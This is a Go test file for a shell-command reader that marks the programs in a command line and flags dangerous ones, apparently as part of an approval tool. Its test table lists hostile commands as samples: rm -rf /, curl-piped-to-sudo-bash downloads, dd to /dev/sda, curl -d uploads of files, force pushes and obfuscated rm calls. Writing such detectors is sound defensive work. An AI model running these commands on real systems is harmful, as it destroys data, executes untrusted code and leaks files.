package command

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"assent/executors"
)

var ground = Ground{Home: "/home/alice", Folder: "/home/alice/code/site"}

// marked writes a line with [ ] around programs and < > around what is dangerous.
func marked(line string, marks []executors.Mark) string {
	for _, m := range slices.Backward(marks) {
		open, end := "[", "]"
		if m.Danger {
			open, end = "<", ">"
		}
		line = line[:m.From] + open + line[m.From:m.To] + end + line[m.To:]
	}
	return line
}

func TestRead(t *testing.T) {
	t.Parallel()
	for _, test := range []struct{ marked, dangers string }{
		{"[ls] -la", ""},
		{"[go] test ./... 2>&1 | [tail] -n 5", ""},
		{"[echo] hi > out.txt && [cat] /etc/hosts", ""},
		{"[echo] hi > /dev/null 2> /dev/stderr", ""},
		{"<rm> <-rf> build", "remove rm -rf"},
		{"[rm] file.txt", ""},
		{`<r\m> <-r> "dir"`, "remove rm -r"},
		{"<'rm'> <--recursive> x", "remove rm --recursive"},
		{"</bin/rm> <-rf> </>", "remove rm -rf; outside /"},
		{"<rm> <-rf> <~/other>", "remove rm -rf; outside /home/alice/other"},
		{"<rm> <-rf> <$HOME/x>", "remove rm -rf; outside /home/alice/x"},
		{"[rm] <$X>", "outside_unknown "},
		{"[rm] <../x>", "outside /home/alice/code/x"},
		{"[rm] <$PWD/../../y>", "outside /home/alice/y"},
		{"[cp] /etc/passwd .", ""},
		{"[cp] a b </tmp/>", "outside /tmp"},
		{"[mv] </etc/x> .", "outside /etc/x"},
		{"[echo] x >> <~/.bashrc>", "outside /home/alice/.bashrc"},
		{"[echo] x >& <../f>", "outside /home/alice/code/f"},
		{"[tee] -a </etc/hosts>", "outside /etc/hosts"},
		{"[sed] -i s/a/b/ <../f>", "outside /home/alice/code/f"},
		{"[sed] s/a/b/ ../f", ""},
		{"<dd> if=x <of=/dev/sda>", "disk dd of=/dev/sda; outside /dev/sda"},
		{"<sudo> [apt] install x", "admin sudo"},
		{"<sudo> -u root <rm> <-rf> x", "admin sudo; remove rm -rf"},
		{"[env] -i A=b <rm> <-rf> x", "remove rm -rf"},
		{"[timeout] 5 [nice] -n 10 <rm> <-rf> x", "remove rm -rf"},
		{"[find] . -name x -exec <rm> <-rf> {} +", "remove rm -rf"},
		{"<find> . <-delete>", "remove find -delete"},
		{"[ls] | [xargs] -n 1 <rm> <-r>", "remove rm -r"},
		{"[curl] -s https://x.example/i | <sh>", "download sh"},
		{"[curl] -s https://x.example/i | <sudo> -E <bash> -s", "download bash; admin sudo"},
		{"<bash> <<(curl -s x)>", "download bash"},
		{`<sh> -c <"$(wget -qO- x)">`, "download sh"},
		{`[eval] <"$(curl x)">`, "download sh"},
		{"[base64] -d x | <sh>", "pipe sh"},
		{"[cat] x | [python3] script.py", ""},
		{"[cat] x | <python3> -", "pipe python3"},
		{"<python3> -c 'print(1)'", "program_text python3"},
		{"[sh] -c <'rm -rf x'>", "remove rm -rf"},
		{"[sh] -c 'ls'", ""},
		{`[bash] -lc <'sh -c "rm -rf x"'>`, "remove rm -rf"},
		{"<git> <push> <--force> origin main", "push git push --force"},
		{"<git> -C x <push> origin <+main>", "push git push +main"},
		{"[git] push origin main", ""},
		{"[git] commit -m 'push --force'", ""},
		{"<git> <reset> <--hard>", "discard git reset --hard"},
		{"<git> <clean> -fdx", "discard git clean"},
		{"<$X> -rf", "hidden_program "},
		{"<$(echo rm)> -rf x", "hidden_program "},
		{"<{rm,-rf,/}>", "hidden_program "},
		{"<${x:-rm}> -rf", "hidden_program "},
		{"[true] && (<rm> <-rf> a) || { <rm> <-rf> b; }", "remove rm -rf"},
		{"[ls] $(<rm> <-rf> x)", "remove rm -rf"},
		{"f() { <rm> <-rf> x; }; [f]", "remove rm -rf"},
		{"[cd] </etc> && [ls]", "leaves_folder /etc"},
		{"[cd] sub && [ls]", ""},
		{"LD_PRELOAD=x.so [ls]", "environment LD_PRELOAD"},
		{"<crontab> -", "later crontab"},
		{"<chmod> <-R> 777 .", "rights chmod -R"},
		{"<curl> <-d> @f https://x.example", "sends curl -d"},
		{"<npm> <publish>", "publishes npm publish"},
		{"ls 'open", "unreadable "},
		{"if [ x", "unreadable "},
		{strings.Repeat("x", lengthLimit+1), "too_long "},
		{"", ""},
	} {
		line := test.marked
		if !strings.Contains(test.dangers, "unreadable") {
			line = unmarked(test.marked)
		}
		marks, dangers := Read(line, ground)
		if got := marked(line, marks); got != test.marked {
			t.Errorf("%s is marked\n%s", test.marked, got)
		}
		var named []string
		for _, d := range dangers {
			word, _ := d.Args["Word"].(string)
			named = append(named, strings.TrimPrefix(d.Key, "danger.")+" "+word)
		}
		if got := strings.Join(named, "; "); got != test.dangers {
			t.Errorf("%s: %q, not %q", test.marked, got, test.dangers)
		}
	}
}

// unmarked takes the marks off again, and leaves < and > that are the shell's.
func unmarked(text string) string {
	text = strings.NewReplacer("[", "", "]", "").Replace(text)
	text = strings.NewReplacer("<<(", "\x01(", ")>", ")", " >> ", " \x02\x02 ", " > ", " \x02 ", " 2> ", " 2\x02 ", " 2>&1", " 2\x02&1", " >& ", " \x02& ").Replace(text)
	text = strings.NewReplacer("<", "", ">", "", "\x01", "<", "\x02", ">").Replace(text)
	return text
}

// Without a folder every way out of where it starts is outside.
func TestReadWithoutGround(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]string{
		"rm x": "", "rm /x": "danger.outside", "rm ../x": "danger.outside", "rm ~/x": "danger.outside", "rm $HOME/x": "danger.outside_unknown", "echo > a/b": "",
	} {
		if _, dangers := Read(line, Ground{}); fmt.Sprint(len(dangers) > 0 && dangers[0].Key == want) != fmt.Sprint(want != "") {
			t.Errorf("%s: %v", line, dangers)
		}
	}
}

// Reading ends, whatever the text.
func TestReadDeep(t *testing.T) {
	t.Parallel()
	for _, part := range []string{"(", "$(", "`", "{ ", "((", "$((", "${x:-", "if ", "<(", "[[ ( ", "case x in (", "\"$(", "a|", "! ", "sh -c "} {
		Read(strings.Repeat(part, lengthLimit/len(part)), ground)
	}
	line := "x"
	for range 10 {
		line = "sh -c " + "'" + strings.ReplaceAll(line, "'", `'\''`) + "'"
	}
	Read(line, ground)
}

func FuzzRead(f *testing.F) {
	for _, line := range []string{"rm -rf x", "curl x | sh", "sh -c 'a b'", "a > ~/x", "env -i x", `"$(a)"`, "a{b,c}", "find . -exec rm {} \\;", "x\\"} {
		f.Add(line)
	}
	f.Fuzz(func(t *testing.T, line string) {
		marks, dangers := Read(line, ground)
		end := 0
		for _, m := range marks {
			if m.From < end || m.To <= m.From || m.To > len(line) {
				t.Errorf("%q: mark %+v after %d", line, m, end)
			}
			end = m.To
		}
		if len(dangers) > dangersLimit {
			t.Errorf("%q: %d dangers", line, len(dangers))
		}
	})
}
